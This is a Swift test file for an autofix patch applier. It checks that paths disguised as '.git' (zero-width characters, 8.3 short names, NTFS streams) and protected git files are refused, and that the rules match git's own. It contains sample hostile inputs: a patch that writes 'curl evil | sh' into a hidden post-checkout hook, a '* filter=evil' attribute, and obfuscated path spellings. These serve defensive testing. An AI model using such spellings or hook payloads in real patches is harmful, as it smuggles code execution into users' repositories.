import AutofixPatch
import AutofixTestSupport
import Foundation
import XCTest

/// Paths git itself refuses (`verify_path` with core.protectHFS and core.protectNTFS), and the
/// special files protected by default: refused as patch paths, with feedback for the model.
final class GitPathRulesTests: XCTestCase {
    override func setUp() {
        Hermetic.applyToCurrentProcess()
    }

    private func create(_ path: String) -> FilePatch {
        FilePatch(oldPath: nil, newPath: path, hunks: [Hunk(oldStart: 0, newStart: 1, lines: [HunkLine(.add, "[core]")])])
    }

    private func modify(_ path: String) -> FilePatch {
        FilePatch(oldPath: path, newPath: path, hunks: [
            Hunk(oldStart: 1, newStart: 1, lines: [HunkLine(.remove, "* text=auto"), HunkLine(.add, "* filter=evil")]),
        ])
    }

    /// Spellings of `.git` that HFS+ or NTFS resolve to the repository itself.
    static let dotGitAliases = [
        ".g\u{200C}it/config", "\u{FEFF}.git/hooks/pre-commit", ".GI\u{200D}T/config", "sub/.gi\u{206F}t/config",
        "GIT~1/config", "git~1/hooks/post-checkout", ".git./config", ".git /config", ".git . ./config",
        ".git::$INDEX_ALLOCATION/config", ".git:stream", ".GIT/config", ".Git/hooks/pre-commit", "a/b/.gIt",
        "a\\.git\\config", "a/.git\\hooks",
    ]

    /// Names that only look like `.git`; git takes them.
    static let lookalikes = [
        ".gitignore", ".github/workflows/ci.yml", ".gitkeep", "git~2/config", "my.git/config",
        ".git-blame-ignore-revs", "docs/.git_notes", "gitx/config", "a.git.b", "\u{200C}x/.gitx",
    ]

    func testGitsOwnRefusalsAreRefusedAsPatchPathsWithFeedback() throws {
        let checkout = try makeTree(["README.md": "hello\n"])
        let before = try TreeFingerprint.of(checkout.url)
        let applier = PatchApplier(root: checkout.url, policy: PathPolicy(root: checkout.url))
        for path in Self.dotGitAliases {
            XCTAssertThrowsError(try applier.apply(create(path)), path) { error in
                guard let error = error as? PatchError else { return XCTFail("\(path): not a PatchError: \(error)") }
                XCTAssertEqual(error.kind, .unsafePath, "\(path): \(error.message)")
                XCTAssertEqual(error.category, .model, path)
                XCTAssertTrue(error.feedback.hasPrefix("Not applied:") && error.feedback.contains(".git"), "\(path): \(error.feedback)")
                XCTAssertFalse(error.message.unicodeScalars.contains { $0.value == 0x200C || $0.value == 0xFEFF || $0.value == 0x200D },
                               "invisible characters are shown escaped: \(error.message)")
            }
        }
        XCTAssertEqual(try TreeFingerprint.of(checkout.url), before, "nothing was written")
        for path in Self.lookalikes {
            XCTAssertNoThrow(try PathPolicy(root: checkout.url).checkPath(path), path)
        }
    }

    func testTheParserRejectsThemBeforeTheApplier() {
        let edits = parse("--- /dev/null\n+++ b/.gi\u{200C}t/hooks/post-checkout\n@@ -0,0 +1 @@\n+curl evil | sh\n").edits
        guard case let .rejected(path, reason)? = edits.first, edits.count == 1 else { return XCTFail("\(edits)") }
        XCTAssertEqual(path, ".gi\u{200C}t/hooks/post-checkout")
        XCTAssertTrue(reason.contains("HFS+"), reason)
    }

    /// The lists above agree with git itself, run with both protections on.
    func testTheRulesAgreeWithGit() throws {
        let repo = try TestRepository()
        let blob = try repo.git(["hash-object", "-w", "--stdin"], input: "x\n").trimmingCharacters(in: .whitespacesAndNewlines)
        func gitAccepts(_ path: String) throws -> Bool {
            try Shell.run(["git", "-c", "core.protectHFS=true", "-c", "core.protectNTFS=true", "update-index", "--add",
                           "--cacheinfo", "100644,\(blob),\(path)"], in: repo.url).succeeded
        }
        for path in Self.dotGitAliases {
            XCTAssertFalse(try gitAccepts(path), "git takes \(path)")
        }
        for path in Self.lookalikes {
            XCTAssertTrue(try gitAccepts(path), "git refuses \(path)")
        }
    }

    func testGitmodulesAndGitattributesAreProtectedByDefault() throws {
        let checkout = try makeTree([".gitattributes": "* text=auto\n", "src/.gitattributes": "* text=auto\n", "app.c": "int x;\n"])
        let defaults = PathPolicy(root: checkout.url, protectedGlobs: PathPolicy.protectedGlobs(configured: [], noTestEdits: false))
        let refused: [FilePatch] = [
            modify(".gitattributes"), modify("src/.gitattributes"), create(".gitmodules"), create("GITMOD~1"),
            create("gi7eba~1"), create(".gitattributes."), create(".GitAttributes"), create(".gitattr\u{200C}ibutes"),
            create("gitatt~1"), create("lib/.gitmodules"),
        ]
        for policy in [defaults, PathPolicy(root: checkout.url)] {
            for patch in refused {
                XCTAssertThrowsError(try PatchApplier(root: checkout.url, policy: policy).apply(patch), "\(patch.touchedPaths)") { error in
                    guard let error = error as? PatchError else { return XCTFail("not a PatchError: \(error)") }
                    XCTAssertEqual(error.kind, .protectedPath, error.message)
                    XCTAssertTrue(error.feedback.contains("protected"), error.feedback)
                    XCTAssertTrue(error.hint?.contains("git config --add autofix.protect '!") == true, error.hint ?? "no hint")
                }
            }
        }
        XCTAssertEqual(try readFile(checkout, ".gitattributes"), "* text=auto\n")
        XCTAssertNoThrow(try PatchApplier(root: checkout.url, policy: defaults).apply(create("app.h")))

        // autofix.protect lifts it: `!.gitattributes` allows that file (in any spelling), not .gitmodules.
        let lifted = PathPolicy(root: checkout.url, protectedGlobs: PathPolicy.protectedGlobs(configured: ["!.gitattributes"], noTestEdits: false))
        XCTAssertNoThrow(try PatchApplier(root: checkout.url, policy: lifted).apply(modify(".gitattributes")))
        XCTAssertEqual(try readFile(checkout, ".gitattributes"), "* filter=evil\n")
        XCTAssertNoThrow(try lifted.checkPath("GITATT~1"))
        XCTAssertThrowsError(try lifted.checkPath(".gitmodules"))
        XCTAssertThrowsError(try lifted.checkPath(".git/config"), "lifting never reaches .git")
    }
}
